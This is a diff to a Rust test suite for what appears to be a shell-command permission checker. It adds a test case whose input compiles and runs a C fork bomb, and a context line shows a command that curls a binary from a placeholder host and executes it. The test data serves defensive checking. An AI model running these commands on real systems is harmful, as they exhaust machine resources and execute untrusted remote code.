@@ -125,6 +125,13 @@ fn script_execution_tracking_reads_a_rust_source_compiled_on_the_line() {
             ASK,
             "script-execution-tracking",
         ),
+        // A process started with no command line (`fork()`) is a spawn the reader cannot
+        // judge: a fork loop keeps the ask.
+        (
+            "echo '#include <unistd.h>\nint main(){for(;;)fork();}' > /tmp/f.c && cc /tmp/f.c -o /tmp/f && /tmp/f",
+            ASK,
+            "script-execution-tracking",
+        ),
         (
             "echo 'fn main(){}' > /tmp/a.rs && curl -o /tmp/a https://x.example/a && /tmp/a",
             DENY,
